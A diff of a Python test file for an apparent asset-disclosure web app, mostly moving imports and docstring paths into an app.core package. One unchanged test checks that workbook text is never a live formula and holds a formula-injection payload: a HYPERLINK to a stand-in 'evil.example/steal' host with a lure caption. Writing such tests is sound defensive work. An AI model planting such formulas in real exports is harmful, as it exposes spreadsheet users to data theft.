@@ -15,8 +15,8 @@ from openpyxl import load_workbook
 from sqlalchemy.ext.asyncio import AsyncSession
 
 from app.assets import workbook
-from app.auth.models import Role
-from app.cells import FORMULA_STARTS
+from app.core.cells import FORMULA_STARTS
+from app.core.roles import Role
 from tests.assets.conftest import Books
 from tests.factories import auth, idempotent, make_key, make_product
 from tests.ip.test_router import Registry
@@ -318,7 +318,7 @@ async def test_two_items_racing_on_one_trade_never_exceed_it(books: Books) -> No
 @pytest.mark.parametrize("parameter", ["from", "to", "through"])
 async def test_months_in_queries_are_bounded(books: Books, month: str, parameter: str) -> None:
     """Issue 27: `from=1990-01&to=9999-12` was a 500; months run from 1990-01 to 2100-12
-    (app/clock.py QueryMonth), else 422 naming the parameter."""
+    (app/core/clock.py QueryMonth), else 422 naming the parameter."""
     asset = await books.capitalised("1200.00", "2025-01-10", 12)
     if parameter == "through":
         answer = await books.client.get(
@@ -448,7 +448,7 @@ async def test_a_certificate_suspended_for_core_data_backs_no_cost(
 
 async def test_workbook_text_is_never_a_formula(books: Books) -> None:
     """Issue 27: an asset named `=HYPERLINK(…)` arrived in the disclosure workbook as a live
-    formula. Every text cell is now text, neutralised as the CSV export's (app/cells.py)."""
+    formula. Every text cell is now text, neutralised as the CSV export's (app/core/cells.py)."""
     name = '=HYPERLINK("http://evil.example/steal","点此查看")'
     typed = {name, "+1", "-2+3", "@SUM(A1)"}  # a name takes no TAB or CR, a description does
     retry_safe = {**books.key, "Idempotency-Key": str(uuid.uuid4())}
